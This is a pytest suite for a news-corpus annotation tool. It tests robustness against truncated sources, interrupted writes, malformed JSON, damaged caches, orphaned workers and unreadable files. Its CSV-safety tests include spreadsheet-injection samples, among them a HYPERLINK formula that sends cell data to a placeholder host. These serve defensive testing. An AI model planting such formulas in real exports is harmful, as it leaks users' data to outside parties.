"""Hostile faults and inputs: nothing lost, nothing mixed, nothing executed (issue 19).

Each test builds its corpus, cache or output here (nothing is committed) and checks what the
user gets: every document analysed or reported with its file, line and reason; tables written
as a consistent set; a damaged cache rebuilt with a warning; workers that die with their parent.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from corpus_utils import annotate
from corpus_utils.__main__ import main
from corpus_utils.annotate import (
    annotate_corpus,
    spreadsheet_safe,
    spreadsheet_unescape,
    write_tables,
)
from corpus_utils.annotate.shards import iter_shards
from corpus_utils.config import PROJECT_ROOT, SEEDS_DIR
from corpus_utils.corpus import load
from corpus_utils.corpus.load import LoadReport, iter_documents

STORY = "Ukrainian President Volodymyr Zelenskyy said on Monday that Kyiv would not cede territory."


def _jsonl(path: Path, n: int) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        for i in range(n):
            handle.write(
                json.dumps({"id": f"d{i}", "text": f"Kyiv said {i} things.", "outlet": "X"})
            )
            handle.write("\n")


# group 1: one read of the source -------------------------------------------------------------


def test_a_source_shortened_after_the_read_still_gives_every_counted_document(tmp_path):
    path = tmp_path / "feed.jsonl"
    _jsonl(path, 200)
    shards, report, n_docs = iter_shards(path, shard_size=30)
    with open(path, "r+", encoding="utf-8") as handle:  # another program rewrites the file
        lines = handle.readlines()
        handle.seek(0)
        handle.writelines(lines[:100])
        handle.truncate()
    ids = [r["doc_id"] for shard in shards for r in shard.records]
    assert n_docs == report.loaded == len(ids) == 200
    assert ids == [f"d{i}" for i in range(200)]


def test_a_source_changed_while_it_is_read_is_reported_and_the_tables_match_the_count(
    tmp_path, monkeypatch, nlp
):
    path = tmp_path / "feed.jsonl"
    _jsonl(path, 200)
    original = load._iter_jsonl

    def shortened_after_the_read(file, *args, **kwargs):
        yield from original(file, *args, **kwargs)
        lines = Path(file).read_text(encoding="utf-8").splitlines(keepends=True)
        Path(file).write_text("".join(lines[:100]), encoding="utf-8")

    monkeypatch.setattr(load, "_iter_jsonl", shortened_after_the_read)
    annotation = annotate_corpus(path, cache_dir=tmp_path / "cache", workers=1, shard_size=50)
    report = annotation.report
    assert report.read == report.loaded == len(annotation.documents) == 200
    changed = [p for p in report.problems if p["reason"] == "changed_while_read"]
    assert len(changed) == 1 and changed[0]["source"] == str(path)
    assert str(path) in changed[0]["message"]


def test_the_spool_is_removed_after_the_run(tmp_path):
    path = tmp_path / "feed.jsonl"
    _jsonl(path, 20)
    shards, _, _ = iter_shards(path, shard_size=5, spool_dir=tmp_path / "spool")
    assert len(list(shards)) == 4
    assert list((tmp_path / "spool").iterdir()) == []


# group 2: tables written as a set ------------------------------------------------------------


class _Tables:
    """A stand-in for an Annotation: write_tables only asks it for tables by name."""

    def __init__(self, tag: str, n: int = 3):
        self.tag, self.n = tag, n

    def table(self, name):
        return pd.DataFrame({"doc_id": [f"{self.tag}{i}" for i in range(self.n)], "table": name})


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def test_tables_are_written_as_one_set_with_a_manifest(tmp_path):
    out = tmp_path / "tables"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    written = write_tables(_Tables("a"), out, fmt="csv")
    assert [p.name for p in written] == [f"{n}.csv" for n in annotate.EXPORT_TABLES]
    manifest = json.loads((out / "manifest.json").read_text())
    import hashlib

    for name in annotate.EXPORT_TABLES:
        entry = manifest["tables"][name]
        data = (out / entry["file"]).read_bytes()
        assert entry["rows"] == 3 and entry["sha256"] == hashlib.sha256(data).hexdigest()
    assert (out / "notes.txt").read_text() == "mine"
    assert [p.name for p in tmp_path.iterdir()] == ["tables"]


def test_a_failure_while_writing_leaves_the_previous_set_intact_and_no_temporary_file(
    tmp_path, monkeypatch
):
    out = tmp_path / "tables"
    write_tables(_Tables("old"), out, fmt="csv")
    before = _snapshot(out)
    original = pd.DataFrame.to_csv

    def full_disk(self, path, *args, **kwargs):
        if Path(path).name == "mentions.csv":
            raise OSError(errno.ENOSPC, "No space left on device")
        return original(self, path, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", full_disk)
    with pytest.raises(OSError, match="No space left on device") as raised:
        write_tables(_Tables("new"), out, fmt="csv")
    assert str(out / "mentions.csv") in str(raised.value)
    assert _snapshot(out) == before, "the tables of two runs were mixed"
    assert [p.name for p in tmp_path.iterdir()] == ["tables"], "a temporary file was left"
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


_KILLED_WRITER = """
import sys, time
from pathlib import Path
import pandas as pd
from corpus_utils.annotate import write_tables

original = pd.DataFrame.to_csv


def slow(self, path, *args, **kwargs):
    original(self, path, *args, **kwargs)
    if "mentions" in Path(path).name:
        print("half written", flush=True)
        time.sleep(600)


pd.DataFrame.to_csv = slow


class New:
    def table(self, name):
        return pd.DataFrame({"doc_id": ["new"], "table": [name]})


write_tables(New(), sys.argv[1], fmt="csv")
"""


def test_a_kill_while_writing_leaves_the_previous_set_intact(tmp_path):
    out = tmp_path / "tables"
    write_tables(_Tables("old"), out, fmt="csv")
    before = _snapshot(out)
    writer = subprocess.Popen(
        [sys.executable, "-c", _KILLED_WRITER, str(out)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=PROJECT_ROOT,
    )
    try:
        assert writer.stdout.readline().strip() == "half written"
    finally:
        writer.kill()
        writer.wait(timeout=30)
    assert _snapshot(out) == before
    write_tables(_Tables("next"), out, fmt="csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tables"]
    assert "next0" in (out / "documents.csv").read_text()


def test_a_temporary_folder_left_by_a_killed_run_is_removed(tmp_path):
    out = tmp_path / "tables"
    dead = tmp_path / ".tables.tmp-deadbeef"
    dead.mkdir()
    (dead / "documents.csv").write_text("half")
    write_tables(_Tables("a"), out, fmt="parquet")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tables"]
    assert len(pd.read_parquet(out / "documents.parquet")) == 3


def test_the_cli_reports_the_path_that_failed(tmp_path, monkeypatch, capsys):
    def no_space(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", no_space)
    out = tmp_path / "tables"
    code = main(["extract", str(SEEDS_DIR), "--out", str(out), "--cache-dir", str(tmp_path / "c")])
    message = capsys.readouterr().err
    assert code == 2
    assert f"{out / 'documents.csv'}: cannot write (No space left on device)" in message


def test_other_files_and_folders_in_out_are_kept(tmp_path, monkeypatch):
    out = tmp_path / "tables"
    (out / "cache" / "shards").mkdir(parents=True)
    (out / "cache" / "shards" / "part.parquet").write_text("cached")
    write_tables(_Tables("a"), out, fmt="csv")
    assert (out / "cache" / "shards" / "part.parquet").read_text() == "cached"
    assert (out / "documents.csv").read_text().startswith("doc_id")
    monkeypatch.chdir(out / "cache")
    with pytest.raises(RuntimeError, match="holds the current folder"):
        write_tables(_Tables("b"), out, fmt="csv")
    assert "a0" in (out / "documents.csv").read_text()


def test_globs_match_like_before(tmp_path):
    (tmp_path / "a" / "b").mkdir(parents=True)
    for name in ("x.csv", "a/y.csv", "a/b/z.csv", "a/.hidden.csv", "a/b/w.txt"):
        (tmp_path / name).write_text("id,text\n")
    import glob

    for pattern in ("*.csv", "a/*.csv", "**/*.csv", "a/**/*", "*/b/*.csv", "a/?.csv"):
        expected = sorted(
            Path(p) for p in glob.glob(f"{tmp_path}/{pattern}", recursive=True) if Path(p).is_file()
        )
        assert load.scan_source(f"{tmp_path}/{pattern}").files == expected, pattern


# group 3: one strange line is a reported row -------------------------------------------------


def test_strange_json_lines_are_reported_rows_and_the_run_goes_on(tmp_path, nlp):
    lines = [
        json.dumps({"id": "good1", "text": STORY}),
        '{"id": "surrogate", "text": "Kyiv \\ud800 said"}',
        '{"id": "digits", "text": "Kyiv said", "n": ' + "9" * 5000 + "}",
        '{"id": "deep", "text": "Kyiv said", "x": ' + "[" * 1000 + "]" * 1000 + "}",
        '{"id": "pair", "text": "Kyiv \\ud83d\\ude4f said so."}',
        json.dumps({"id": "good2", "text": STORY}),
    ]
    path = tmp_path / "feed.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    annotation = annotate_corpus(path, cache_dir=tmp_path / "cache", workers=1)
    assert sorted(annotation.documents["doc_id"]) == ["good1", "good2", "pair"]
    skipped = {p["location"]: p for p in annotation.report.problems if p["severity"] == "skipped"}
    assert set(skipped) == {"line 2", "line 3", "line 4"}
    for location, words in (
        ("line 2", "surrogate"),
        ("line 3", "4300 digits"),
        ("line 4", "nested too deeply"),
    ):
        assert skipped[location]["source"] == str(path)
        assert f"{path}, {location}" in skipped[location]["message"]
        assert words in skipped[location]["message"]
    assert annotation.report.reconciles()


def test_a_document_an_extractor_fails_on_is_reported_and_the_others_are_annotated(
    tmp_path, monkeypatch, nlp
):
    from corpus_utils.extract import quantities

    original = quantities.extract_quantities

    def fails_on_one(doc, *args, **kwargs):
        if "Mariupol" in doc.text:
            raise KeyError("µm")
        return original(doc, *args, **kwargs)

    monkeypatch.setattr(quantities, "extract_quantities", fails_on_one)
    lines = [
        {"id": "good", "text": STORY + " Russia fired 40 missiles."},
        {"id": "bad", "text": "Zelenskyy said 300 people fled Mariupol on Monday."},
        {"id": "after", "text": "Moscow said 12 drones were downed."},
    ]
    path = tmp_path / "feed.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    for _ in range(2):  # the second run is served from the cache and reports it again
        annotation = annotate_corpus(path, cache_dir=tmp_path / "cache", workers=1)
        documents = annotation.documents.set_index("doc_id")
        assert list(documents.index) == ["good", "bad", "after"]
        assert documents["extract_error"].isna().tolist() == [True, False, True]
        error = documents.loc["bad", "extract_error"]
        assert "the figure extractor failed on characters 0-50" in error
        assert "KeyError: 'µm'" in error and "figures of that passage are missing" in error
        assert set(annotation.quantities["doc_id"]) == {"good", "after"}
        assert "bad" in set(annotation.mentions["doc_id"]) | set(annotation.quotes["doc_id"])
        problems = annotation.problems
        failed = problems[problems["reason"] == "extraction_error"]
        assert failed[["source", "location", "doc_id", "severity"]].values.tolist() == [
            [str(path), "line 2", "bad", "warning"]
        ]
        assert f"{path}, line 2: " in failed["message"].iloc[0]
        assert error in failed["message"].iloc[0]
        assert annotation.report.reconciles()


# group 5: a damaged cache is rebuilt, never served -------------------------------------------


@pytest.fixture(scope="module")
def cached_seeds(tmp_path_factory, nlp):
    cache = tmp_path_factory.mktemp("cache")
    annotation = annotate_corpus(SEEDS_DIR, cache_dir=cache, workers=1, shard_size=2)
    expected = {n: annotation.table(n) for n in ("documents", "mentions", "quotes", "texts")}
    return cache, annotation.shard_dirs, expected


def _damage(kind: str, shard_dirs: list[Path]) -> Path:
    first, second = shard_dirs[0], shard_dirs[1]
    if kind == "swapped":
        shutil.copyfile(first / "mentions.parquet", second / "mentions.parquet")
    elif kind == "truncated":
        data = (second / "mentions.parquet").read_bytes()
        (second / "mentions.parquet").write_bytes(data[: len(data) // 2])
    elif kind == "empty":
        (second / "quotes.parquet").write_bytes(b"")
    elif kind == "missing":
        (second / "texts.parquet").unlink()
    elif kind == "bad_manifest":
        (second / "_COMPLETE").write_text("{not json")
    return second


@pytest.mark.parametrize("kind", ["swapped", "truncated", "empty", "missing", "bad_manifest"])
def test_a_damaged_shard_is_annotated_again_with_a_warning(cached_seeds, kind):
    cache, shard_dirs, expected = cached_seeds
    damaged = _damage(kind, shard_dirs)
    annotation = annotate_corpus(SEEDS_DIR, cache_dir=cache, workers=1, shard_size=2)
    warnings = [p for p in annotation.report.problems if p["reason"] == "cache_damaged"]
    assert len(warnings) == 1 and warnings[0]["severity"] == "warning"
    assert warnings[0]["source"] == str(damaged)
    assert annotation.stats["annotated"] == 2
    for name, frame in expected.items():
        pd.testing.assert_frame_equal(annotation.table(name), frame)
    again = annotate_corpus(SEEDS_DIR, cache_dir=cache, workers=1, shard_size=2)
    assert again.stats["annotated"] == 0
    assert not [p for p in again.report.problems if p["reason"] == "cache_damaged"]


# group 6: workers die with their parent ------------------------------------------------------

_POOL_PARENT = """
import os, sys, time
from corpus_utils import annotate
pool = annotate.local.process_pool(2)
list(pool.map(time.sleep, [0.1, 0.1]))
print(" ".join(str(p) for p in pool._processes), flush=True)
time.sleep(600)
"""

_DASK_PARENT = """
import os, sys, time
from contextlib import ExitStack
from corpus_utils.annotate import cluster
stack = ExitStack()
client = cluster.local_client(stack, 2)
print(" ".join(str(p) for p in client.run(os.getpid).values()), flush=True)
time.sleep(600)
"""


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie is dead too (no init reaped it yet)
        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] != "Z"
    except (OSError, IndexError):
        return False


@pytest.mark.parametrize("script", [_POOL_PARENT, _DASK_PARENT], ids=["local", "dask"])
def test_workers_exit_when_their_parent_is_killed(script):
    parent = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(script)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=PROJECT_ROOT,
    )
    workers = []
    try:
        line = parent.stdout.readline()
        workers = [int(p) for p in line.split()]
        assert len(workers) == 2 and all(_alive(p) for p in workers), line
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=30)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and any(_alive(p) for p in workers):
            time.sleep(0.2)
        assert not [p for p in workers if _alive(p)], "orphaned workers live on"
    finally:
        parent.kill()
        for pid in workers:
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)


# group 7: globs and files that are not read --------------------------------------------------


def test_a_worker_whose_parent_died_while_it_started_exits():
    # The pool's process killed before a slow worker ran its initializer: the
    # worker's parent is then another process, and it must not live on.
    script = "from corpus_utils.annotate.local import start_worker; start_worker(1); print('alive')"
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, cwd=PROJECT_ROOT
    )
    assert (done.returncode, done.stdout) == (70, "")


def test_a_glob_through_symlink_loops_returns(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "a" / "b").mkdir(parents=True)
    (corpus / "a" / "b" / "one.txt").write_text(STORY)
    (corpus / "two.txt").write_text(STORY)
    (corpus / "a" / "b" / "loop").symlink_to(corpus)
    (corpus / "a" / "back").symlink_to(corpus / "a")
    code = (
        "import sys; from corpus_utils.corpus.load import resolve_source; "
        "print('\\n'.join(map(str, resolve_source(sys.argv[1]))))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code, f"{corpus}/**/*.txt"],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=PROJECT_ROOT,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == [str(corpus / "a" / "b" / "one.txt"), str(corpus / "two.txt")]


@pytest.mark.parametrize("as_glob", [False, True], ids=["folder", "glob"])
def test_every_file_not_read_is_reported_with_its_reason(tmp_path, as_glob):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text(STORY)
    (corpus / "dangling.txt").symlink_to(tmp_path / "nowhere.txt")
    os.mkfifo(corpus / "pipe.txt")
    (corpus / "folder.txt").mkdir()
    (tmp_path / "elsewhere.txt").write_text(STORY)
    (corpus / "outside.txt").symlink_to(tmp_path / "elsewhere.txt")
    report = LoadReport()
    source = f"{corpus}/*.txt" if as_glob else corpus
    loaded = [d["doc_id"] for d in iter_documents(source, report=report)]
    assert loaded == ["good", "outside"]
    reasons = {(p["doc_id"], p["severity"], p["reason"]) for p in report.problems}
    assert {
        ("dangling", "skipped", "dangling_link"),
        ("pipe", "skipped", "not_a_regular_file"),
        ("folder", "skipped", "folder"),
        ("outside", "warning", "outside_corpus"),
    } <= reasons
    messages = {
        p["doc_id"]: p["message"]
        for p in report.problems
        if p["reason"] not in ("unknown_outlet", "no_date")
    }
    assert "FIFO" in messages["pipe"] and str(tmp_path / "elsewhere.txt") in messages["outside"]
    assert report.read == 5 and report.reconciles()


# group 9: input the CLI refuses, and files that are reported while the rest loads ------------


@pytest.mark.parametrize("where", ["equal", "inside"])
def test_out_equal_to_or_inside_the_source_is_refused(tmp_path, where, capsys):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(STORY)
    out = corpus if where == "equal" else corpus / "tables"
    code = main(["extract", str(corpus), "--out", str(out), "--cache-dir", str(tmp_path / "c")])
    assert code == 2
    assert "the tables would be written into the corpus" in capsys.readouterr().err
    assert sorted(p.name for p in corpus.iterdir()) == ["a.txt"]
    code = main(["extract", f"{corpus}/*.txt", "--out", str(out), "--cache-dir", "x"])
    assert code == 2


def test_a_latin1_csv_is_reported_and_the_good_files_beside_it_load(tmp_path):
    (tmp_path / "good.csv").write_text(f"id,text\ng,{STORY}\n", encoding="utf-8")
    (tmp_path / "latin.csv").write_bytes(f"id,text\nl,{STORY} caf\xe9\n".encode("latin-1"))
    (tmp_path / "more.jsonl").write_text(json.dumps({"id": "m", "text": STORY}) + "\n")
    report = LoadReport()
    loaded = [d["doc_id"] for d in iter_documents(tmp_path, report=report)]
    assert loaded == ["g", "m"]
    (problem,) = [p for p in report.problems if p["severity"] == "skipped"]
    assert problem["source"] == str(tmp_path / "latin.csv")
    assert problem["reason"] == "not_utf8" and "--encoding cp1252" in problem["message"]
    assert report.reconciles()
    report = LoadReport()
    decoded = {
        d["doc_id"]: d["raw_text"]
        for d in iter_documents(tmp_path / "latin.csv", report=report, encoding="cp1252")
    }
    assert decoded == {"l": f"{STORY} café"}


def test_table_files_take_an_encoding(tmp_path):
    (tmp_path / "feed.jsonl").write_bytes(
        json.dumps({"id": "j", "text": "“Kyiv” – €5"}, ensure_ascii=False).encode("cp1252")
    )
    texts = [d["raw_text"] for d in iter_documents(tmp_path / "feed.jsonl", encoding="cp1252")]
    assert texts == ["“Kyiv” – €5"]


# spreadsheet-safe CSV ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "'=already quoted",
    "''-twice",
]
PLAIN = ["Kyiv", "", "'quoted but harmless", "a=b", "5 - 3", "'"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_reversibly(tmp_path):
    class Cells:
        def table(self, name):
            values = FORMULAS + PLAIN
            return pd.DataFrame(
                {"doc_id": [f"d{i}" for i in range(len(values))], "text": values, "n": -1.5}
            )

    write_tables(Cells(), tmp_path / "csv", fmt="csv", tables=["mentions"])
    write_tables(Cells(), tmp_path / "pq", fmt="parquet", tables=["mentions"])
    read = pd.read_csv(tmp_path / "csv" / "mentions.csv", keep_default_na=False)
    cells = list(read["text"])
    for value in cells[: len(FORMULAS)]:
        assert value.startswith("'")
    assert cells[len(FORMULAS) :] == PLAIN
    assert (read["n"] == -1.5).all()
    assert [spreadsheet_unescape(v) for v in cells] == FORMULAS + PLAIN
    exact = pd.read_parquet(tmp_path / "pq" / "mentions.parquet")
    assert list(exact["text"]) == FORMULAS + PLAIN
    assert spreadsheet_safe("\r=1") == "'\r=1"
    for value in [*FORMULAS, *PLAIN, "\r=1", "'\r", "'", "''", "'''=", "=", None, 3]:
        assert spreadsheet_unescape(spreadsheet_safe(value)) == value


def test_the_seed_tables_are_not_changed_by_the_neutralisation(tmp_path, nlp):
    annotation = annotate_corpus(SEEDS_DIR, cache_dir=tmp_path / "cache", workers=1)
    for name in annotate.EXPORT_TABLES:
        frame = annotation.table(name)
        for column in frame.columns:
            if frame[column].dtype == object or pd.api.types.is_string_dtype(frame[column]):
                safe = frame[column].map(spreadsheet_safe)
                if (name, column) == ("quantities", "bound"):
                    # "=" is the one symbol a spreadsheet would run: written "'=", read back exactly
                    assert safe.map(spreadsheet_unescape).equals(frame[column])
                    continue
                assert safe.equals(frame[column]), (name, column)
